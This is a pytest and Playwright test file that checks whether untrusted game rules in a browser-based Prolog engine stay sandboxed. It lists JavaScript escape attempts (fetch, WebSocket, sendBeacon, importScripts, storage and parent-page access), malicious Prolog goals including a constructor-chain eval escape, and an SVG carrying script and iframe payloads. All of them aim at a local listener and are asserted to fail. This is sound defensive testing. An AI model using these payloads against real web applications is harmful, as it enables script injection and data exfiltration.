"""Rules from strangers can only compute and draw. A server listens for anything that gets out."""

from __future__ import annotations

import base64
import re
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from at_the_table import button, open_game, opened_page
from browser import only_in_chromium
from playwright.sync_api import Browser, Page, expect

from pybridge.cli import run
from pybridge.web.files import page_files

# Each is tried as JavaScript in the worker when the rules are loaded.
ATTEMPTS = {
    "fetch": "fetch('{url}fetch', {{mode: 'no-cors'}})",
    "request": "(() => {{ const it = new XMLHttpRequest(); it.open('GET', '{url}a', false); it.send(); }})()",
    "socket": "new WebSocket('{url}socket'.replace('http', 'ws'))",
    "events": "new EventSource('{url}events')",
    "script": "importScripts('{url}script.js')",
    "module": "import('{url}module.js')",
    "worker": "new Worker('{url}worker.js')",
    "beacon": "navigator.sendBeacon('{url}beacon', 'x')",
    "database": "indexedDB.open('stolen')",
    "caches": "caches.open('stolen')",
    "channel": "new BroadcastChannel('stolen').postMessage('x')",
    "page": "parent.document.title",
    "storage": "localStorage.setItem('stolen', 'x')",
}

SVG = """<script>fetch('{url}svg-script')</script><image href='{url}svg-image'/>
<foreignObject width='99' height='99'>
<iframe xmlns='http://www.w3.org/1999/xhtml' src='{url}svg-frame'/>
</foreignObject>"""


class Listener(ThreadingHTTPServer):
    """A server elsewhere that records every request."""

    heard: list[str]


@pytest.fixture
def listener() -> Iterator[Listener]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            server.heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    with Listener(("127.0.0.1", 0), Handler) as server:
        server.heard = []
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


def shared(rules: str, file: str = "evil.pl") -> str:
    """Return the fragment of a link that includes rules."""
    packed = zlib.compressobj(wbits=-15)
    code = base64.urlsafe_b64encode(packed.compress(rules.encode()) + packed.flush()).decode().rstrip("=")
    return f"#file={file}&players=human+human&rules={code}"


def evil_rules(folder: Path, monkeypatch: pytest.MonkeyPatch, extra: str) -> str:
    """Return valid rules with extra code in them."""
    monkeypatch.chdir(folder)
    assert run(["new", "evil"]) == 0
    return (folder / "evil.pl").read_text().replace("players(ann, ben).", extra + "\nplayers(ann, ben).")


def test_nothing_in_the_worker_reaches_the_network_storage_or_the_page(
    browser: Browser, opened: Page, listener: Listener
) -> None:
    only_in_chromium(browser)
    open_game(opened, "tictactoe")
    url = f"http://127.0.0.1:{listener.server_port}/"
    before = opened.evaluate("[document.title, localStorage.length]")
    opened.evaluate("pybridge.prolog.started")
    worker = opened.workers[-1]
    outcomes = {name: worker.evaluate(escaping(code.format(url=url))) for name, code in ATTEMPTS.items()}
    assert {name for name, outcome in outcomes.items() if outcome == "got out"} == set()
    assert opened.evaluate("[document.title, localStorage.length]") == before
    assert listener.heard == []


def test_the_policies_allow_webassembly_and_no_more_than_the_pages_own_files() -> None:
    files = page_files()
    policies = {}
    for name in ("index.html", "sandbox.html"):
        found = re.search('http-equiv="Content-Security-Policy" content="([^"]*)"', files[name].decode())
        assert found
        rules = re.sub("'sha256-[^']*'", "HASH", found[1]).split("; ")
        policies[name] = {rule.partition(" ")[0]: rule.partition(" ")[2] for rule in rules}
    assert policies["index.html"]["default-src"] == "'self'"
    assert policies["index.html"]["script-src"] == "'self' HASH 'wasm-unsafe-eval'"
    assert policies["sandbox.html"] == {
        "default-src": "'none'", "script-src": "HASH 'wasm-unsafe-eval' blob:", "worker-src": "blob:"
    }  # fmt: skip


def escaping(code: str) -> str:
    """Return JavaScript that tries `code` and reports within a second whether it succeeded."""
    return f"""async () => {{
        const late = new Promise((resolve) => setTimeout(() => resolve("nothing came"), 1000));
        const attempt = async () => {{
            const made = await ({code});
            if (made instanceof EventTarget) await new Promise((_, fail) => (made.onerror = fail));
            return "got out";
        }};
        return Promise.race([attempt().catch(() => "refused"), late]);
    }}"""


@pytest.mark.stress
def test_rules_that_reach_for_javascript_get_nowhere(
    browser: Browser, address: str, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = f"http://127.0.0.1:{listener.server_port}/"
    tries = "\n".join(
        f":- catch(ignore(({goal})), _, true)."
        for goal in [
            f"_ := fetch('{url}a')",
            f"_ := self.fetch('{url}b')",
            f"fetch('{url}c', text, _)",
            f"js_script(\"fetch('{url}d')\", [])",
            "use_module(library(wasm)), _ := 'XMLHttpRequest'.new()",
            f"load_files('{url}e.pl', [])",
            f"open('{url}f', read, _)",
            f"_ := eval(\"fetch('{url}g')\")",
            f"_ := prolog.constructor.constructor(\"fetch('{url}h')\").call()",
        ]
    )
    rules = evil_rules(tmp_path, monkeypatch, tries)
    with opened_page(browser, address + shared(rules)) as page:
        button(page, "Play by these rules").click()
        expect(page).to_have_title("Evil - pybridge")
        page.wait_for_timeout(300)
    assert listener.heard == []


@pytest.mark.stress
def test_a_picture_from_rules_runs_nothing(
    browser: Browser, address: str, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = f"http://127.0.0.1:{listener.server_port}/"
    inner = " ".join(SVG.format(url=url).split()).replace("'", "\\'")
    picture = f'board_svg(_, _, \'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 99 99">{inner}</svg>\').'
    take_over = f":- abolish(pybridge_page:board_svg/3), assertz(pybridge_page:({picture[:-1]}))."
    rules = evil_rules(tmp_path, monkeypatch, take_over)
    with opened_page(browser, address + shared(rules)) as page:
        button(page, "Play by these rules").click()
        expect(page).to_have_title("Evil - pybridge")
        assert "svg-script" in (page.locator("#picture").get_attribute("src") or "")
        page.wait_for_timeout(300)
    assert listener.heard == []
